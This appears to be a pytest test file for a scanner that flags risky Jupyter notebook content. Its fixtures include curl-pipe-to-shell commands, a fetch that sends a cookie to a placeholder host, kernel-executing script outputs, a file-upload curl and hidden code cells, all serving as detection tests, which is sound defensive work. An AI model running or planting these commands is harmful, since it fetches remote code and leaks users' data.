"""Notebooks: cells as programs and commands, outputs as pages, and what is out of sight."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.analyzers.executable_events import events, findings, rules
from weighbridge.core.finding import Finding
from weighbridge.errors import LimitReached, Malformed
from weighbridge.formats.documents.notebook import CellKind, read_notebook
from weighbridge.formats.documents.notebook_code import split_cell

HOST = "https://example.invalid"


def code(source: str, *, outputs: list[Any] | None = None, **metadata: Any) -> dict[str, Any]:
    return {"cell_type": "code", "source": source, "metadata": metadata, "outputs": outputs or []}


def notebook(*cells: dict[str, Any], language: str = "python", **metadata: Any) -> str:
    about = {"kernelspec": {"name": "k", "language": language}} | metadata
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": about, "cells": list(cells)})


def shown(media_type: str, text: str) -> dict[str, Any]:
    return code("1", outputs=[{"output_type": "display_data", "data": {media_type: text}}])


def own(*cells: dict[str, Any], **metadata: Any) -> set[str]:
    return {rule for rule in rules("a.ipynb", notebook(*cells, **metadata)) if rule != "NBK005"}


@pytest.mark.parametrize(
    "cell",
    [
        f"!curl -s {HOST}/x.sh | sh",
        f"x = !curl -s {HOST}/x.sh | sh",
        f"%%bash\ncd /tmp\ncurl -s {HOST}/x.sh | sh",
        f"%%script bash\ncurl -s {HOST}/x.sh | sh",
        f"%system curl -s {HOST}/x.sh | sh",
        f"for i in range(3):\n    !curl -s {HOST}/x.sh | sh",
        f"!curl -s \\\n  {HOST}/x.sh | sh",
        f"get_ipython().system('curl -s {HOST}/x.sh | sh')",
        f"get_ipython().run_cell_magic('bash', '', 'curl -s {HOST}/x.sh | sh')",
        f"%%writefile run.sh\n#!/bin/sh\ncurl -s {HOST}/x.sh | sh",
    ],
)
def test_a_shell_that_runs_what_it_fetches_is_found_in_every_spelling(cell: str) -> None:
    assert "SCR002" in own(code(cell))


def test_code_is_followed_from_cell_to_cell() -> None:
    text = notebook(code("import requests"), code(f"t = requests.get('{HOST}').text"), code("\nexec(t)"))
    found = [one for one in findings("a.ipynb", text) if one.rule == "SCR002"]
    assert [(one.path, one.route) for one in found] == [(("a.ipynb",), "cell 3, line 2")]
    assert found[0].evidence.startswith("cell 3, line 2: exec(")


def test_a_cell_that_does_not_parse_hides_no_other_cell() -> None:
    cells = code("this is no python ("), code(f"import os\nos.system('curl {HOST}/x | sh')")
    assert "SCR002" in own(*cells)


def test_programs_that_cells_start_are_low_and_not_imports() -> None:
    assert own(code("import os\nos.system('ls')")) == {"NBK012"}


def test_ordinary_cells_give_nothing_but_their_commands() -> None:
    cells = [
        code("%matplotlib inline\nimport os\n!ls -la\nnames?"),
        code(
            "%pip install -q transformers 'datasets>=3' torch --index-url "
            "https://download.pytorch.org/whl/cpu"
        ),
        code("%time sum(range(9))"),
        code("%%time\nfor i in range(3):\n    print(i % 2)"),
        code("%%writefile train.py\nprint(1)"),
    ]
    assert rules("a.ipynb", notebook(*cells)) == {"NBK005"}


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("!pip install torchtriton", "PKG001"),
        ("pip install ultralytics==8.3.41", "PKG001"),
        ("%pip install -q reqeusts", "PKG002"),
        (f"!pip install x --extra-index-url {HOST}/simple", "PKG008"),
        (f"!uv pip install {HOST}/x.whl", "CFG024"),
        ("!pip install git+https://github.com/org/x", "CFG025"),
    ],
)
def test_what_cells_install_is_judged_as_requirements(command: str, rule: str) -> None:
    assert rule in own(code(command))


def test_installers_of_known_tools_are_low() -> None:
    assert own(code("!curl -LsSf https://astral.sh/uv/install.sh | sh")) == {"NBK008"}


def test_an_address_that_only_begins_like_a_known_one_is_not_known() -> None:
    assert "SCR002" in own(code("!curl -LsSf https://astral.sh.example.invalid/uv/install.sh | sh"))
    assert "SCR002" in own(code("!curl -LsSf https://astral.sh@example.invalid/uv/install.sh | sh"))


def test_a_file_that_one_cell_fetches_and_another_runs_is_medium() -> None:
    assert own(code(f"!wget -q {HOST}/setup.sh"), code("!bash setup.sh")) == {"NBK004"}


KERNEL = (
    "<script>Jupyter.notebook.kernel.execute(\"import os; os.system('echo "
    "weighbridge-marker')\")</script>"
)


@pytest.mark.parametrize(
    ("media_type", "text", "rule"),
    [
        ("text/html", KERNEL, "NBK001"),
        ("application/javascript", f"fetch('{HOST}/?' + document.cookie)", "NBK001"),
        ("application/javascript", "fetch('/api/terminals', {method: 'POST'})", "NBK001"),
        ("text/html", f"<iframe src='{HOST}/x'></iframe>", "NBK002"),
        ("text/html", f"<script src='{HOST}/x.js'></script>", "NBK002"),
        ("text/markdown", "<img src=x onerror='1'>", "NBK002"),
        ("image/svg+xml", "<svg onload='1'></svg>", "NBK002"),
        ("application/javascript", f"fetch('{HOST}/x')", "NBK002"),
    ],
)
def test_outputs_that_act_are_found(media_type: str, text: str, rule: str) -> None:
    assert rule in own(shown(media_type, text))


@pytest.mark.parametrize(
    "text",
    [
        "<script src='https://cdn.plot.ly/plotly-2.35.2.min.js'></script>",
        "<iframe src='https://www.youtube.com/embed/x'></iframe>",
        "<script>require(['bokeh'], function() {})</script>",
        "<table><tr><td onclick='x()'>1</td></tr></table>",
    ],
)
def test_outputs_of_libraries_are_info(text: str) -> None:
    assert own(shown("text/html", text)) <= {"NBK003"}


def test_asking_the_kernel_for_the_name_of_the_notebook_is_not_high() -> None:
    text = 'Jupyter.notebook.kernel.execute("name = \'" + Jupyter.notebook.notebook_name + "\'")'
    assert own(shown("application/javascript", text)) == {"NBK002"}


def test_state_of_widgets_is_read() -> None:
    state = {"application/vnd.jupyter.widget-state+json": {"state": {"1": {"state": {"value": KERNEL}}}}}
    assert "NBK001" in own(code("1"), widgets=state)


@pytest.mark.parametrize(
    "source",
    [
        "print(1);" + " " * 150 + "import os",
        "print(1)\n" + "\n" * 150 + "import os",
        " " * 200 + "exec(x)",
    ],
)
def test_code_behind_blanks_is_found(source: str) -> None:
    assert "NBK006" in own(code(source))


def test_wide_tables_and_comments_are_not_out_of_sight() -> None:
    assert own(code("x = [1]" + " " * 150 + "# a note\ny = 'a" + " " * 130 + "b'")) == set()


def test_a_hidden_cell_is_found_when_it_reaches_out() -> None:
    hidden: dict[str, Any] = {"jupyter": {"source_hidden": True}}
    assert own(code(f"!wget {HOST}/x", **hidden)) == {"NBK007"}
    assert own(code("import torch", **hidden)) == set()


def test_cells_of_other_kernels_are_read_as_their_language() -> None:
    assert "SCR002" in rules("a.ipynb", notebook(code(f"curl {HOST}/x.sh | sh"), language="bash"))
    assert "SCR014" in rules("a.ipynb", notebook(code("x <- 1"), language="R"))


def test_files_in_attachments_are_inspected_by_their_own_kind() -> None:
    cell = {"cell_type": "markdown", "metadata": {}, "source": "x"}
    cell["attachments"] = {"x.bin": {"application/octet-stream": "f0VMRgIBAQAAAAAAAAAAAA=="}}
    paths = {one.path for one in events("a.ipynb", notebook(cell)) if not isinstance(one, Finding)}
    assert ("a.ipynb", "cell 1/attachment 1") in paths


def test_a_startup_file_that_a_cell_writes_is_high() -> None:
    assert "NBK011" in own(code("%%writefile ~/.ipython/profile_default/startup/a.py\nprint(1)"))


def test_a_mounted_drive_matters_when_files_are_sent() -> None:
    mount = code("from google.colab import drive\ndrive.mount('/content/drive')")
    assert own(mount) == set()
    assert own(mount, code(f"!curl -F f=@x {HOST}")) == {"NBK010"}


def test_a_cell_that_runs_at_start_is_low() -> None:
    assert own(code("print(1)", init_cell=True)) == {"NBK009"}


def test_a_kernel_that_is_a_shell_is_medium() -> None:
    spec = {"display_name": "x", "language": "python"}
    assert rules("kernel.json", json.dumps(spec | {"argv": ["bash", "-c", "x"]})) == {"NBK013"}
    assert (
        rules("kernel.json", json.dumps(spec | {"argv": ["python", "-m", "ipykernel_launcher"]}))
        == set()
    )


def test_version_3_is_read() -> None:
    cell = {
        "cell_type": "code",
        "input": ["print(1)\n"],
        "outputs": [{"output_type": "pyout", "html": "<b>"}],
    }
    tree: Any = {"nbformat": 3, "worksheets": [{"cells": [cell]}]}
    read = read_notebook(tree)
    assert read is not None
    assert [(one.kind, one.source, one.outputs[0].media_type) for one in read.cells] == [
        (CellKind.CODE, "print(1)\n", "text/html")
    ]


def test_lines_keep_their_numbers() -> None:
    parts = split_cell("%%time\n!ls \\\n  -la\nx = !pwd\nprint(x)")
    assert parts.python.split("\n")[4] == "print(x)"
    assert parts.commands == [(2, "ls  -la"), (4, "pwd")]


@given(st.text(alphabet="!%?x=(\n \\'\"#pip bash:install"))
def test_every_cell_is_taken_apart(source: str) -> None:
    parts = split_cell(source)
    assert parts.python.count("\n") <= source.count("\n") + 1
    assert all(0 < line <= source.count("\n") + 1 for line, _ in parts.commands)


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(
                ["cells", "nbformat", "source", "metadata", "outputs", "data", "worksheets", "cell_type"]
            ),
            inner,
            max_size=4,
        )
    ),
    max_leaves=20,
)


@given(_JSON)
def test_any_tree_is_a_notebook_or_none(tree: Any) -> None:
    try:
        read = read_notebook(tree)
    except (Malformed, LimitReached):
        return
    assert read is None or isinstance(read.cells, tuple)
